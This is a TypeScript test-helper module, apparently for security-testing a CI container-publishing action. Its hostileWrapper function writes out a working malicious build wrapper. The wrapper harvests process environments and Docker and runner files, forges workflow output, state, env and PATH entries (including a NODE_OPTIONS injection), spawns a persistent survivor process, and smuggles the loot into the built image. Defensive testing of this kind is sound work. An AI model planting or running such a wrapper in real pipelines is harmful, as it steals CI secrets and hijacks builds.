import { chmodSync, existsSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import { registryManifest, type Services } from './services.ts';

/**
 * A build wrapper that does what issue 19 found a pull request's `mvnw` could do, then builds for real: reads every
 * /proc/* /environ and every file it can find, writes to every command file it can find, prints workflow
 * commands, leaves a survivor (double fork, setsid, nohup) that goes on doing all of that, and copies what it got
 * into the image (a resource of the jar, and a folder the rewritten Dockerfile COPYs).
 */
export function hostileWrapper(id: string, tool: 'mvn' | 'gradle', victim: string): string {
  return `#!/bin/sh
id=${id}
loot=/tmp/ip-hostile-$id
here=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$loot" "$here/hostile" "$here/src/main/resources/hostile"
echo ran > "$loot/ran"
cat > "$loot/steal.sh" <<'STEAL'
loot=$1 here=$2 victim=$3
for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$e" 2>/dev/null; echo; done >> "$loot/environ"
for f in $(find "$RUNNER_TEMP" "$HOME/.docker" "$(dirname "$RUNNER_TEMP")" -maxdepth 3 -type f 2>/dev/null); do echo "== $f"; cat "$f" 2>/dev/null; done >> "$loot/files"
targets=$( (grep -h -o -E '^GITHUB_(OUTPUT|STATE|ENV|PATH)=.*' "$loot/environ" | cut -d= -f2-; ls -d "$RUNNER_TEMP"/_runner_file_commands/* 2>/dev/null; for n in output state env path; do echo "$(dirname "$RUNNER_TEMP")/$n"; done) | sort -u)
for t in $targets; do
  case "$t" in
    *output*) echo "digest=sha256:forged$(printf '%058d' 0)" ;;
    *state*) echo "image-publish={\\"dockerConfig\\":\\"$victim\\",\\"registries\\":[]}" ;;
    *env*) echo "NODE_OPTIONS=--require=$loot/evil.js" ;;
    *path*) echo "$loot/bin" ;;
  esac >> "$t" 2>/dev/null && echo "$t" >> "$loot/wrote"
done
cp "$loot"/environ "$loot"/files "$here/hostile/" 2>/dev/null
STEAL
sh "$loot/steal.sh" "$loot" "$here" "${victim}"
cp "$loot/environ" "$loot/files" "$here/src/main/resources/hostile/"
echo "::set-output name=digest::sha256:forged"
echo "::save-state name=image-publish::{\\"dockerConfig\\":\\"${victim}\\",\\"registries\\":[]}"
echo "::add-mask::sha256"
echo "::error::the hostile build was here"
cat > "$loot/survivor.sh" <<SURVIVE
while :; do sh "$loot/steal.sh" "$loot" "$here" "${victim}"; cat "$loot/environ" >> "$loot/survivor"; sleep 0.5; done
SURVIVE
( setsid nohup sh "$loot/survivor.sh" ip-survivor-$id >/dev/null 2>&1 & ) &
printf 'COPY hostile/ /hostile/\\n' >> "$here/Dockerfile"
exec ${tool} "$@"
`;
}

/** Puts the hostile wrapper in place of the project's own (mvnw or gradlew). */
export function plantWrapper(dir: string, name: 'mvnw' | 'gradlew', id: string, victim: string): void {
  const file = path.join(dir, name);
  writeFileSync(file, hostileWrapper(id, name === 'mvnw' ? 'mvn' : 'gradle', victim));
  chmodSync(file, 0o755);
}

/** Every file under a folder, as one text (absent folders read as ''). */
export function readTree(dir: string): string {
  if (!existsSync(dir)) return '';
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((f) => path.join(dir, f))
    .filter((f) => statSync(f).isFile())
    .map((f) => `== ${f}\n${readFileSync(f, 'latin1')}`)
    .join('\n');
}

/** The entries of a tar stream, by name. */
function tarEntries(tar: Buffer): { name: string; data: Buffer }[] {
  const out: { name: string; data: Buffer }[] = [];
  for (let off = 0; off + 512 <= tar.length; ) {
    const header = tar.subarray(off, off + 512);
    if (header.every((b) => b === 0)) break;
    const name = header.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
    const size = Number.parseInt(header.subarray(124, 136).toString('utf8').replace(/\0.*$/s, '').trim() || '0', 8);
    out.push({ name, data: tar.subarray(off + 512, off + 512 + size) });
    off += 512 + Math.ceil(size / 512) * 512;
  }
  return out;
}

/** Everything the pushed image holds, as text: its config, every layer's files, and the entries of every jar in them. */
export async function imageText(s: Services, repo: string, ref: string): Promise<string> {
  const auth = `Basic ${Buffer.from(`${s.user}:${s.password}`).toString('base64')}`;
  const blob = async (digest: string): Promise<Buffer> => {
    const res = await fetch(`http://${s.registry}/v2/${repo}/blobs/${digest}`, { headers: { authorization: auth }, signal: AbortSignal.timeout(60000) });
    if (!res.ok) throw new Error(`blob ${digest}: HTTP ${res.status}`);
    return Buffer.from(await res.arrayBuffer());
  };
  const manifest = await registryManifest(s, repo, ref);
  const parts = [(await blob(manifest.config.digest)).toString('utf8')];
  for (const layer of manifest.layers) {
    for (const e of tarEntries(gunzipSync(await blob(layer.digest)))) {
      parts.push(`== ${e.name}\n${e.data.toString('latin1')}`);
      if (e.name.endsWith('.jar')) for (const [n, d] of Object.entries(unzipSync(new Uint8Array(e.data)))) parts.push(`== ${e.name}!${n}\n${Buffer.from(d).toString('latin1')}`);
    }
  }
  return parts.join('\n');
}

/** The processes of this machine whose command line holds `marker`. */
export function processesWith(marker: string): number[] {
  return readdirSync('/proc')
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        return readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(marker);
      } catch {
        return false;
      }
    })
    .map(Number);
}

/** Kills what a test left (on the old bundle a survivor outlives the run); by pid, never by name. */
export function killAll(pids: readonly number[]): void {
  for (const pid of pids) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
}

/** A PATH for the action process with every tool of this one but those named: a machine without them. */
export function pathWithout(dir: string, tools: readonly string[]): string {
  for (const d of (process.env.PATH ?? '').split(':').filter(Boolean)) {
    if (!existsSync(d)) continue;
    for (const f of readdirSync(d)) {
      if (tools.includes(f) || existsSync(path.join(dir, f))) continue;
      symlinkSync(path.join(d, f), path.join(dir, f));
    }
  }
  return dir;
}
